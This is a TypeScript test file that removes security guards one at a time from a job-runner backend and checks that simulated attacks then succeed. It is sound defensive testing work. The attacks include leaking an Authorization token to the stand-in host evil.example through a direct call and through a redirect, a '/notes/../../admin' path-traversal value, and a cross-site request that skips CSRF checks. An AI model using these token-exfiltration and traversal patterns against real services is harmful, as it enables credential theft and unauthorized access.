import { expect, test } from 'vitest'
import type { JobRun } from '../jobs/job.ts'
import { onBoth, type Attack, type World } from './without.ts'

/** Where tokens went that were sent anywhere but to the API. */
async function strayTokens(
  { jobWorld }: World,
  run: (run: JobRun) => Promise<unknown>,
  answer: (request: Request) => Response = () => new Response(),
): Promise<readonly string[]> {
  const world = await jobWorld({ run: async (context) => void (await run(context)) })
  const stray: string[] = []
  const catchToken = (request: Request) => {
    if (request.headers.has('Authorization')) stray.push(new URL(request.url).host)
    return new Response()
  }
  world.internet.host('https://evil.example', catchToken)
  world.api = (request) =>
    new URL(request.url).pathname.startsWith('/v1') ? answer(request) : catchToken(request)
  world.wait(world.tonight)
  await world.run()
  return stray
}

const attacks: readonly Attack[] = [
  {
    guard: 'a look at where a call goes, a link in somebody’s data takes the token away',
    cuts: [
      {
        file: 'jobs/job-target.ts',
        guard: "if (target === null || !isOf(api, target)) throw new JobCallError('not-the-api')",
        instead: "if (target === null) throw new JobCallError('not-the-api')",
      },
    ],
    attack: (world) =>
      strayTokens(world, ({ call }) => call('https://evil.example/attachment/7').catch(() => {})),
    refused: [],
    gained: ['evil.example'],
  },
  {
    guard:
      'a look at where a call goes, a path in somebody’s data leads out of what the job may call',
    cuts: [
      {
        file: 'jobs/job-target.ts',
        guard: "if (target === null || !isOf(api, target)) throw new JobCallError('not-the-api')",
        instead: "if (target === null) throw new JobCallError('not-the-api')",
      },
    ],
    attack: (world) => strayTokens(world, ({ call }) => call('/notes/../../admin').catch(() => {})),
    refused: [],
    gained: ['api.example.org'],
  },
  {
    guard: 'a look at where a redirect leads, the API hands the token on to whom it likes',
    cuts: [
      {
        file: 'jobs/job-call.ts',
        guard: 'next !== null && isOf(api, next) ? next : null',
        instead: 'next',
      },
    ],
    attack: (world) =>
      strayTokens(
        world,
        ({ call }) => call('/notes'),
        () => new Response(null, { status: 302, headers: { Location: 'https://evil.example/' } }),
      ),
    refused: [],
    gained: ['evil.example'],
  },
  {
    guard: 'lease, claim and a look at the lease, an instant is run by every instance that sees it',
    cuts: [
      {
        file: 'keyvalue/lease.ts',
        guard: 'if (!(await keyValue.replace(key, null, token, seconds))) return null',
        instead: 'await keyValue.set(key, token, seconds)',
      },
      {
        file: 'jobs/job-states.ts',
        guard: 'const changed = await keyValue.replace(key, sealed, next, secondsLeft(state))',
        instead: 'await keyValue.set(key, next, secondsLeft(state)); const changed = true',
      },
      {
        file: 'jobs/job-call.ts',
        guard:
          "if (parts.signal.aborted || !(await parts.mayGoOn())) throw new JobCallError('stopped')",
      },
    ],
    attack: async ({ jobWorld }) => {
      const world = await jobWorld({ run: async ({ call }) => void (await call('/pay')) })
      await world.browser.fetch('/auth/grants/digest/run', { method: 'POST' })
      const all = [world.bff, world.another().bff, world.another().bff]
      await Promise.all(all.map(async ({ jobs }) => jobs?.tick()))
      await Promise.all(all.map(async ({ jobs }) => jobs?.settled()))
      return world.apiCalls.length > 1
    },
    refused: false,
    gained: true,
  },
  {
    guard: 'a look at the lease, a run that slept and was overtaken goes on beside the other',
    cuts: [
      {
        file: 'jobs/job-call.ts',
        guard:
          "if (parts.signal.aborted || !(await parts.mayGoOn())) throw new JobCallError('stopped')",
      },
    ],
    attack: async ({ jobWorld }) => {
      const wakeUp = Promise.withResolvers<void>()
      const begun = Promise.withResolvers<void>()
      const world = await jobWorld({
        async run({ call }) {
          begun.resolve()
          await wakeUp.promise
          await call('/pay')
        },
      })
      world.wait(world.tonight)
      await world.bff.jobs?.tick()
      await begun.promise
      const quick = {
        name: 'nightly-digest',
        grant: 'digest',
        schedule: '0 2 * * *',
        spreadSeconds: 0,
      }
      const other = world.another({
        jobs: [{ ...quick, run: async ({ call }) => void (await call('/pay')) }],
      })
      world.clock.advance(16)
      await other.bff.jobs?.tick()
      await other.bff.jobs?.settled()
      wakeUp.resolve()
      await world.bff.jobs?.settled()
      return world.apiCalls.length
    },
    refused: 1,
    gained: 2,
  },
  {
    guard: 'a pause between two that a user asks for, one finger has the API called without end',
    cuts: [
      {
        file: 'jobs/ask-for-run.ts',
        guard: "return isTooSoon ? 'too-soon' : null",
        instead: 'return null',
      },
    ],
    attack: async ({ jobWorld }) => {
      const world = await jobWorld({ run: async ({ call }) => void (await call('/notes')) })
      for (let times = 0; times < 5; times += 1) {
        await world.browser.fetch('/auth/grants/digest/run', { method: 'POST' })
        await world.run()
      }
      return world.apiCalls.length
    },
    refused: 1,
    gained: 5,
  },
  {
    guard:
      'the turn before each token request, an API that refuses tokens has the provider asked at will',
    cuts: [{ file: 'offline/grant-tokens.ts', guard: 'await turn?.()', instead: '' }],
    attack: async ({ jobWorld }) => {
      const asked = Promise.withResolvers<void>()
      const world = await jobWorld(
        { run: async ({ call }) => void (await call('/notes')) },
        { jobRunner: { where: 'elsewhere', tokenRequestsPerSecond: 0.1 } },
      )
      world.api = () => {
        asked.resolve()
        return new Response(null, { status: 401 })
      }
      world.wait(world.tonight)
      await world.bff.jobs?.tick()
      await asked.promise
      await world.bff.jobs?.stop(1)
      return world.provider.tokenRequests('refresh_token')
    },
    refused: 1,
    gained: 2,
  },
  {
    guard: 'the guard before the call for a run, a page elsewhere has it run',
    cuts: [
      {
        file: 'create-bff.ts',
        guard:
          'for (const path of [routes.grants, oneGrant, `${oneGrant}/run` as const]) {\n    app.use(path, ownCalls(parts))\n',
        instead:
          'for (const path of [routes.grants, oneGrant, `${oneGrant}/run` as const]) {\n    app.use(path, loadSession(parts.sessions), sameOwner(), revokeEnded(parts))\n',
      },
    ],
    attack: async ({ jobWorld }) => {
      const world = await jobWorld({ run: () => {} })
      const answer = await world.browser.fetch('/auth/grants/digest/run', {
        method: 'POST',
        headers: { 'X-CSRF': '', 'Sec-Fetch-Site': 'cross-site' },
      })
      return answer.status
    },
    refused: 403,
    gained: 202,
  },
]

test.each(attacks)('without $guard', async ({ refused, gained, ...attack }) => {
  expect(await onBoth(attack)).toEqual({ refused, gained })
})
